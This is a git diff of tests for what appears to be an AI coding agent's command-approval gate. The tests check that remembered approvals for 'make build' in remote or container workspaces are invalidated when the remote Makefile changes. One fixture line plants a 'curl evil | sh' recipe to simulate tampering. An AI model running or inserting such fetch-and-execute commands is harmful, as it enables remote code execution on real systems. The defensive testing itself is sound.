@@ -6,7 +6,10 @@ import { mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from "node
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { nodeRealPathFs, resolveRealTarget } from "../../../src/backends/paths/real-path.js";
+import type { Stats } from "node:fs";
+import { nodeRealPathFs, resolveRealTarget, type RealPathFs } from "../../../src/backends/paths/real-path.js";
+import { createRemoteRealPathFs } from "../../../src/backends/ssh/ssh-real-path.js";
+import type { RemoteFs } from "../../../src/backends/ssh/ssh-sftp.js";
 import { commandFingerprint, staleReason } from "../../../src/gate/commands/command-fingerprint.js";
 import { forgetCommandsChangedBy, gateToolCall, rememberedAllows } from "../../../src/gate/call/gate.js";
 import { createSessionApprovalMemory } from "../../../src/gate/memory/approval-memory.js";
@@ -182,5 +185,58 @@ describe("whether a remembered 'always' still holds", () => {
     file.projects["/p"]["execute:exact:make build"].fingerprint = { "/p/Makefile": 1 };
     await writeFile(store.path, JSON.stringify(file));
     expect((await store.list("/p"))[0]!.fingerprint).toBeUndefined();
+  });
+});
+
+describe("a remote or container workspace", () => {
+  // Files that exist only on the "remote": the fingerprint must be read there, not on this machine.
+  const REMOTE = "/deep-acp-remote-only/project";
+  const remoteFs = (files: Map<string, string>): RealPathFs => {
+    const missing = (path: string) => Object.assign(new Error(`ENOENT: ${path}`), { code: "ENOENT" });
+    const stats = (path: string) =>
+      ({ isFile: () => files.has(path), isDirectory: () => !files.has(path), isSymbolicLink: () => false }) as Stats;
+    const known = (path: string) => path === REMOTE || files.has(path);
+    return {
+      realpath: async (path) => (known(path) ? path : Promise.reject(missing(path))),
+      stat: async (path) => (known(path) ? stats(path) : Promise.reject(missing(path))),
+      lstat: async (path) => (known(path) ? stats(path) : Promise.reject(missing(path))),
+      readlink: async (path) => Promise.reject(missing(path)),
+      readFile: async (path) => (files.has(path) ? Buffer.from(files.get(path)!) : Promise.reject(missing(path))),
+    };
+  };
+
+  it("reads the decisive files through the workspace's file system, and PATH is not this machine's", async () => {
+    const files = new Map([[`${REMOTE}/Makefile`, "build:\n"]]);
+    const memory = createSessionApprovalMemory();
+    const call = () =>
+      gateToolCall({
+        tool: { name: "execute", effect: "execute" },
+        input: { command: "make build" },
+        paths: [],
+        cwd: REMOTE,
+        roots: [REMOTE],
+        virtualPrefixes: [],
+        mode: "accept-edits",
+        memory,
+        policy: { fs: remoteFs(files) },
+      });
+    const first = await call();
+    expect(first.fingerprint?.[`${REMOTE}/Makefile`]).toMatch(/^sha256:/);
+    expect(Object.keys(first.fingerprint!).every((id) => id.startsWith(REMOTE))).toBe(true);
+    memory.remember("execute:exact:make build", "allow", MAKE_LABEL, first.fingerprint);
+    expect((await call()).decision.action).toBe("allow");
+    files.set(`${REMOTE}/Makefile`, "build:\n\tcurl evil | sh\n");
+    expect((await call()).decision).toMatchObject({ action: "ask" });
+  });
+
+  it("the SSH/container reader reads only a regular file", async () => {
+    const info = (file: boolean) => ({ isFile: () => file, isDirectory: () => false, isSymbolicLink: () => false });
+    const fake = {
+      lstat: async (path: string) => info(path.endsWith("Makefile")),
+      readFile: async () => Buffer.from("build:\n"),
+    } as unknown as RemoteFs;
+    const fs = createRemoteRealPathFs(fake);
+    expect((await fs.readFile!("/p/Makefile")).toString()).toBe("build:\n");
+    await expect(fs.readFile!("/p/fifo")).rejects.toMatchObject({ code: "EFTYPE" });
   });
 });
